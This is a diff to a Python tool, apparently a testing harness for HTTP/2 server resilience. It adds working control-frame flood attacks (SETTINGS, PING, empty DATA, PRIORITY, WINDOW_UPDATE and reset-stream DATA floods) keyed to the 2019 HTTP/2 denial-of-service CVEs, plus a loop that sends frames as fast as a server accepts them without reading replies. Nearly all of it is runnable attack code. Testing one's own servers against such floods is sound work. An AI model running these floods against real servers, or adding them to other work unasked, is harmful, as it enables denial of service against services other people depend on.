@@ -32,8 +32,8 @@ QUIC_INITIAL_BYTES = 1200
 QUIC_CID_BYTES = 8
 H2_FRAME_HEADER = struct.Struct(">HBBBL")
 """9-byte HTTP/2 frame header: length (24 bits as H+B), type, flags, stream id."""
-H2_DATA, H2_HEADERS, H2_RST_STREAM, H2_SETTINGS = 0x0, 0x1, 0x3, 0x4
-H2_GOAWAY, H2_WINDOW_UPDATE = 0x7, 0x8
+H2_DATA, H2_HEADERS, H2_PRIORITY, H2_RST_STREAM, H2_SETTINGS = 0x0, 0x1, 0x2, 0x3, 0x4
+H2_PING, H2_GOAWAY, H2_WINDOW_UPDATE = 0x6, 0x7, 0x8
 H2_FLAG_ACK = H2_FLAG_END_STREAM = 0x1
 H2_FLAG_END_HEADERS = 0x4
 H2_CANCEL = 0x8
@@ -43,6 +43,18 @@ H2_DEFAULT_FRAME_BYTES = 16_384
 H2_INITIAL_WINDOW_BYTES = 65_535
 RAPID_RESET_BATCH = 2_000
 """HEADERS+RST_STREAM pairs written per send."""
+FLOOD_BATCH_FRAMES = 2_000
+"""Control frames written per send in a flood."""
+FLOOD_READ_S = 3.0
+"""After a flood connection stops taking frames: how long what the server sent is read,
+looking for its GOAWAY (behind every reply the flood never read)."""
+H2_SETTINGS_HEADER_TABLE_SIZE = 0x1
+"""RFC 9113 section 6.5.2: a setting every SETTINGS frame of the flood carries (its value
+unchanged, so the server does the work of applying and acknowledging it, nothing more)."""
+FLOOD_SETTLE_S = 0.2
+"""Pause between a flood's opening and its frames: the server answers the opening (resets
+the refused request's stream) before the flood arrives."""
+H2_MAX_STREAM_ID = 2**31 - 1
 IO_TIMEOUT_S = 5.0
 
 
@@ -394,4 +406,155 @@ def send_after_reset(target: Target, duration_s: float, max_bytes: int) -> str:
         sock.close()
     return f"{sent / 1e6:.1f} MB sent after the reset; stop: {stop}" + (
         ", GOAWAY seen" if peer.goaway else ""
+    )
+
+
+@dataclass(frozen=True)
+class Flood:
+    """One kind of HTTP/2 control-frame flood: the frames that open it (after the preface and
+    the client's SETTINGS) and the ``i``-th frame of the flood."""
+
+    what: str
+    """How the outcome line names the frames."""
+    opening: Callable[[], bytes]
+    frame: Callable[[int], bytes]
+
+
+def _nothing() -> bytes:
+    return b""
+
+
+def _settings_frame(_: int) -> bytes:
+    return _frame(H2_SETTINGS, 0, 0, struct.pack(">HL", H2_SETTINGS_HEADER_TABLE_SIZE, 4096))
+
+
+def _ping_frame(i: int) -> bytes:
+    return _frame(H2_PING, 0, 0, i.to_bytes(8, "big"))
+
+
+def _upload_head() -> bytes:
+    """HEADERS of an upload whose body never comes (the stream the empty DATA frames use)."""
+    import hpack
+
+    headers = [(":method", "POST"), (":path", "/sink"), (":scheme", "https"),
+               (":authority", "x"), ("content-length", "1000000")]  # fmt: skip
+    block = hpack.Encoder().encode(headers)
+    return _frame(H2_HEADERS, H2_FLAG_END_HEADERS, 1, block)
+
+
+def _empty_data_frame(_: int) -> bytes:
+    return _frame(H2_DATA, 0, 1)
+
+
+def _priority_frame(i: int) -> bytes:
+    """PRIORITY on idle stream 2i+1 (depends on stream 0, weight 16)."""
+    stream = (2 * i + 1) % H2_MAX_STREAM_ID
+    return _frame(H2_PRIORITY, 0, stream, struct.pack(">LB", 0, 15))
+
+
+def _window_update_frame(_: int) -> bytes:
+    return _frame(H2_WINDOW_UPDATE, 0, 0, (1).to_bytes(4, "big"))
+
+
+def _refused_head() -> bytes:
+    """HEADERS (no END_STREAM) of a request head the server refuses, a header value that is
+    not UTF-8: the server resets stream 1 with RST_STREAM(PROTOCOL_ERROR)."""
+    import hpack
+
+    headers = [(b":method", b"POST"), (b":path", b"/sink"), (b":scheme", b"https"),
+               (b":authority", b"x"), (b"x-bad", b"\xff")]  # fmt: skip
+    return _frame(H2_HEADERS, H2_FLAG_END_HEADERS, 1, hpack.Encoder().encode(headers))
+
+
+def _closed_stream_data_frame(_: int) -> bytes:
+    """One byte of DATA on the stream the server reset: h2 answers each with RST_STREAM
+    (STREAM_CLOSED), 13 bytes out for 10 in (CVE-2019-9514)."""
+    return _frame(H2_DATA, 0, 1, b"x")
+
+
+FLOODS: dict[str, Flood] = {
+    "settings": Flood("SETTINGS", _nothing, _settings_frame),
+    "ping": Flood("PING", _nothing, _ping_frame),
+    "empty-data": Flood("empty DATA", _upload_head, _empty_data_frame),
+    "priority": Flood("PRIORITY", _nothing, _priority_frame),
+    "window-update": Flood("WINDOW_UPDATE", _nothing, _window_update_frame),
+    "reset": Flood("DATA-on-a-reset-stream", _refused_head, _closed_stream_data_frame),
+}
+"""The 2019 HTTP/2 advisories' classes: CVE-2019-9515 (settings), 9512 (ping), 9518 (empty
+frames), 9513-like (priority churn), window updates, 9514 (reset flood)."""
+
+
+class _GoawayScan:
+    """Finds a GOAWAY in what the server sent without keeping it (a flood's replies run to
+    tens of MB): frame headers are stepped over, bodies never copied."""
+
+    def __init__(self) -> None:
+        self._buffer = bytearray()
+        self.goaway = False
+        self.bytes = 0
+
+    def feed(self, data: bytes) -> None:
+        self.bytes += len(data)
+        buffer = self._buffer
+        buffer += data
+        offset = 0
+        header = H2_FRAME_HEADER.size
+        while len(buffer) - offset >= header:
+            high, low, ftype, _, _ = H2_FRAME_HEADER.unpack_from(buffer, offset)
+            end = offset + header + ((high << 8) | low)
+            if end > len(buffer):
+                break
+            self.goaway = self.goaway or ftype == H2_GOAWAY
+            offset = end
+        del buffer[:offset]
+
+
+def _read_replies(sock: ssl.SSLSocket, scan: _GoawayScan, deadline: float) -> None:
+    """Read until the server closes, its GOAWAY is seen or ``deadline``."""
+    while time.monotonic() < deadline and not scan.goaway:
+        if not _readable(sock, 0.05):
+            continue
+        try:
+            chunk = sock.recv(1 << 20)
+        except (OSError, ssl.SSLError):
+            return
+        if not chunk:
+            return
+        scan.feed(chunk)
+
+
+def control_flood(target: Target, duration_s: float, kind: str, frames: int) -> str:
+    """Up to ``frames`` frames of the flood ``kind`` (:data:`FLOODS`) as fast as the server
+    takes them, never reading what it answers; when a connection stops taking frames (or at
+    the end) what the server sent is read for its GOAWAY; then a new connection."""
+    flood = FLOODS[kind]
+    deadline = time.monotonic() + duration_s
+    sent = connections = goaways = 0
+    replies_bytes = 0
+    while sent < frames and time.monotonic() < deadline:
+        try:
+            sock = _tls(target)
+        except OSError:
+            time.sleep(0.05)
+            continue
+        connections += 1
+        scan = _GoawayScan()
+        try:
+            sock.sendall(H2_PREFACE + _frame(H2_SETTINGS, 0, 0) + flood.opening())
+            time.sleep(FLOOD_SETTLE_S)
+            index = 0
+            while sent < frames and time.monotonic() < deadline:
+                count = min(FLOOD_BATCH_FRAMES, frames - sent)
+                sock.sendall(b"".join(flood.frame(index + i) for i in range(count)))
+                index += count
+                sent += count
+        except (OSError, ssl.SSLError):
+            pass  # the server stopped reading (a send timed out) or closed
+        _read_replies(sock, scan, time.monotonic() + FLOOD_READ_S)
+        sock.close()
+        goaways += scan.goaway
+        replies_bytes += scan.bytes
+    return (
+        f"{sent} {flood.what} frames on {connections} connections, replies unread until the "
+        f"end ({replies_bytes / 1e6:.1f} MB), {goaways} GOAWAY"
     )
